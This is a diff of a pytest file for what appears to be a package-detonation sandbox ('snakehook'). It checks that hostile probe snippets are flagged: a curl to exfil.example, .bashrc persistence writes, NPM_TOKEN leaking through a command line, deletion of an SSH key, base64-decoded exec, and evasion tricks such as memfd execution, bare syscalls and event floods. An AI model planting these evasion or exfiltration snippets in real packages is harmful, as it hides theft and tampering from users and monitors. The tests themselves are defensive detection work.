@@ -1,11 +1,14 @@
-"""A package can't do unseen what the kernel witness is there to see: by way of threads, long arguments, or as pip."""
+"""A package can't do unseen what the kernel witness is there to see: in disguise, by flooding it, or as pip."""
+
+from pathlib import Path
+from typing import Any
 
 import pytest
 from conftest import Triage
 from hostile import PROBES, add_probe, findings, targets
 from standins import Index
 
-pytestmark = pytest.mark.unmet
+import snakehook
 
 
 def test_a_program_that_a_thread_starts_is_seen(triage: Triage, index: Index) -> None:
@@ -38,7 +41,7 @@ os.waitpid(pid, 0)
     "disguise",
     [
         'os.execv("/bin/sh", ["sh", "-c", COMMAND])',
-        'os.execv(sys.executable, ["gcc", "-c", CODE])',
+        'os.execve(sys.executable, ["gcc", "-c", CODE], {"PYTHONHOME": sys.base_prefix})',
         'os.execv(sys.executable, [sys.executable, "-c", CODE, "/pip/__pip-runner__.py"])',
     ],
     ids=["as a tool of pip's", "as a compiler", "as pip once more"],
@@ -92,19 +95,196 @@ os.unlink("/home/dev/.ssh/id_rsa")
     assert any("pip-evidence" in one["path"] for one in report["files"]), report["files"]
 
 
-def test_when_the_warden_dies_of_a_package_that_is_a_finding(triage: Triage, index: Index) -> None:
+@pytest.mark.parametrize(
+    "last_words",
+    [[], [{"kind": "exec", "at": 0}], [{"kind": "end", "outcome": "ok"}, {"kind": "output", "stream": "outcome"}], [7]],
+    ids=["silence", "half an event", "nonsense after the end", "a number"],
+)
+def test_when_the_warden_dies_of_a_package_that_is_a_finding(last_words: list[Any], tmp_path: Path) -> None:
     """Whatever made it die: what was not seen must not look like a fault of ours and nothing more."""
-    import snakehook
-
     request = snakehook.TriageRequest("x", "1.0", "install")
     report = snakehook.Report("r", "running", request, "")
-    settings = snakehook.load_settings({"HOME": "/tmp", "STATE_DIR": "/tmp", "PIP_CACHE_DIR": "/tmp"}, service=False)  # noqa: S108
-    from pathlib import Path
-
-    sandbox = snakehook.Sandbox("", None, Path("/"), "", "http://127.0.0.1:9/simple", False, False)
+    variables = {"HOME": str(tmp_path), "STATE_DIR": str(tmp_path), "PIP_CACHE_DIR": str(tmp_path)}
+    settings = snakehook.load_settings(variables, service=False)
+    sandbox = snakehook.Sandbox("", None, tmp_path, "", "http://127.0.0.1:9/simple", False, False)
     run = snakehook.Detonation(settings, sandbox, report)
-    run.events = lambda orders: iter(())  # type: ignore[method-assign]
+    run.events = lambda orders: iter(last_words)  # type: ignore[method-assign]
     snakehook.known_hosts[sandbox.index_url] = []
-    run.phase(Path("/"), "install", None, ["pip"])
-    assert report.phases[-1].outcome == "error"
-    assert [one for one in report.findings if one["rule"] == "evidence.tamper"] or report.coverage["notes"]
+    phase = run.phase(tmp_path, "install", None, ["pip"])
+    assert (phase.outcome, report.outcome) == ("error", "error")
+    assert [one["severity"] for one in report.findings] == ["medium"]
+    assert report.findings[0]["rule"] == "evidence.tamper"
+    assert report.coverage["notes"]
+
+
+# --- floods: the rare and grave survives the common ------------------------------------------------------------------
+
+FLOODS = {
+    "connections to this machine hide none to another": (
+        """
+for port in range(1, 2300):
+    with socket.socket() as one: one.connect_ex(("127.0.0.1", port))
+with socket.socket() as one: one.connect_ex(("192.0.2.80", 443))
+""",
+        ("network.attempt", "192.0.2.80:443"),
+    ),
+    "programs that are not there hide none that is": (
+        """
+for number in range(2300):
+    try: os.execv(f"/nowhere/{number}", [str(number)])
+    except OSError: pass
+os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", "curl http://exfil.example/"])
+""",
+        ("process.spawn", "exfil.example"),
+    ),
+    "questions for one name hide none for another": (
+        """
+for number in range(2300):
+    with socket.socket(type=socket.SOCK_DGRAM) as one:
+        one.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4same\\7example\\0\\0\\1\\0\\1", ("127.0.0.1", 53))
+        one.recv(100)
+try: socket.getaddrinfo("other.example", 80)
+except OSError: pass
+""",
+        ("network.attempt", "other.example"),
+    ),
+    "files hide none that lasts": (
+        """
+for number in range(2300): open(f"/home/dev/.a{number:04}", "w").close()
+open("/home/dev/.bashrc", "w").write("kept")
+""",
+        ("persistence.write", "/home/dev/.bashrc"),
+    ),
+    "deleted files hide none that lasted": (
+        """
+for number in range(2300):
+    open(f"/tmp/a{number}", "w").close()
+    os.unlink(f"/tmp/a{number}")
+open("/home/dev/.bashrc", "w").write("kept")
+os.unlink("/home/dev/.bashrc")
+""",
+        ("persistence.write", "/home/dev/.bashrc"),
+    ),
+    "packets hide no secret in a command": (
+        """
+with socket.socket(type=socket.SOCK_DGRAM) as one:
+    for number in range(5000): one.sendto(bytes(4000), ("127.0.0.1", 9))
+if os.fork() == 0: os.execv("/bin/true", ["true", os.environ["NPM_TOKEN"]])
+os.wait()
+""",
+        ("secret.read", "passes on NPM_TOKEN in command"),
+    ),
+    "generated code hides none that was decoded": (
+        """
+import base64
+for number in range(600): exec(f"x = {number}")
+def decode(): exec(base64.b64decode(b"aGlkZGVuID0gMQ=="))
+decode()
+""",
+        ("code.dynamic", "decoded"),
+    ),
+}
+
+
+@pytest.mark.parametrize("what", FLOODS)
+def test_no_flood_of_the_common_hides_the_rare(triage: Triage, index: Index, what: str) -> None:
+    source, (rule, words) = FLOODS[what]
+    add_probe(index, source)
+    _, report, _ = triage("probe", "--mode", "import")
+    assert report["outcome"] == "ok", (report["reason"], report["phases"][-1]["stderr"]["text"])
+    found = [one for one in report["findings"] if one["rule"] == rule and words in one["title"]]
+    assert found and {one["severity"] for one in found} == {"high"}, report["findings"][:20]
+    if "same" not in source:  # nothing was left out
+        assert findings(report, "limit.hit"), report["findings"][:20]
+        assert report["coverage"]["dropped_events"]
+
+
+# --- programs in disguise --------------------------------------------------------------------------------------------
+
+PROGRAMS = {
+    "the first program itself": ('os.execv("/bin/sh", ["sh", "-c", "exit 0 # took over"])', "# took over", "medium"),
+    "a name that is not its own": (
+        'os.spawnv(os.P_WAIT, "/usr/bin/base64", ["gcc", "--version"])',
+        "/usr/bin/base64 as gcc",
+        "high",
+    ),
+    "a file in memory": (
+        """
+fd = os.memfd_create("x")
+os.write(fd, open("/bin/true", "rb").read())
+if os.fork() == 0: os.execve(fd, ["memory", "--flag"], {})
+os.wait()
+""",
+        "memory --flag",
+        "high",
+    ),
+    "a descriptor by path": (
+        """
+fd = os.memfd_create("x", 0)
+os.write(fd, open("/bin/true", "rb").read())
+if os.fork() == 0: os.execv(f"/proc/self/fd/{fd}", ["by-path"])
+os.wait()
+""",
+        "as by-path",
+        "high",
+    ),
+    "a copy under a relative path": (
+        """
+import shutil
+os.chdir("/tmp"); shutil.copy("/bin/true", "here")
+os.spawnv(os.P_WAIT, "here", ["here", "--flag"])
+""",
+        "here --flag",
+        "high",
+    ),
+    "vfork and a bare system call": (
+        """
+if libc.syscall(57) == 0:
+    words = (ctypes.c_char_p * 3)(b"true", b"bare", None)
+    libc.syscall(59, b"/bin/true", words, None)
+os.wait()
+""",
+        "true bare",
+        "medium",
+    ),
+}
+
+
+@pytest.mark.parametrize("how", PROGRAMS)
+def test_a_program_is_seen_for_what_it_is(triage: Triage, index: Index, how: str) -> None:
+    source, words, severity = PROGRAMS[how]
+    add_probe(index, source)
+    _, report, _ = triage("probe", "--mode", "import")
+    found = [one for one in report["findings"] if one["rule"] == "process.spawn" and words in one["title"]]
+    assert [one["severity"] for one in found] == [severity], (report["findings"], report["phases"][-1]["stderr"])
+    hidden = [title for title in findings(report, "witness.hidden") if words in title]
+    assert bool(hidden) == ("bare" in how)  # by any other way Python's own witness has seen it, too
+
+
+def test_threads_act_in_the_name_of_their_process(triage: Triage, index: Index) -> None:
+    source = """
+import threading
+def act(number):
+    with socket.socket() as one: one.connect_ex((f"192.0.2.{number}", 443))
+threads = [threading.Thread(target=act, args=(number,)) for number in range(1, 9)]
+for one in threads: one.start()
+for one in threads: one.join()
+"""
+    add_probe(index, source)
+    _, report, _ = triage("probe", "--mode", "import")
+    assert targets(report) == {f"192.0.2.{number}:443" for number in range(1, 9)}
+    assert all(one["witness"] == ["kernel", "python"] for one in report["network"]), report["network"]
+    assert not findings(report, "witness.hidden") and not findings(report, "evidence.tamper")
+    assert len([one for one in report["processes"] if one["phase"] == "import"]) == 2  # threads are none
+
+
+def test_each_event_names_the_trigger_that_brought_it_about(triage: Triage, index: Index) -> None:
+    act = "import subprocess; subprocess.run(['true', __name__]); open('/home/dev/.bash_' + __name__, 'w').close()\n"
+    index.add_wheel("several", "1.0", {f"module_{n}.py": act for n in range(3)})
+    _, report, _ = triage("several", "--mode", "import")
+    for name in ("module_0", "module_1", "module_2"):
+        for items in (report["findings"], report["files"], report["processes"]):
+            mine = [one for one in items if name in str(one)]
+            assert mine and {one["trigger"] for one in mine} == {name}, items
+        pids = [one["pid"] for one in report["processes"] if one["trigger"] == name]
+        assert len(pids) == 3, report["processes"]  # the launcher, the Python, the command
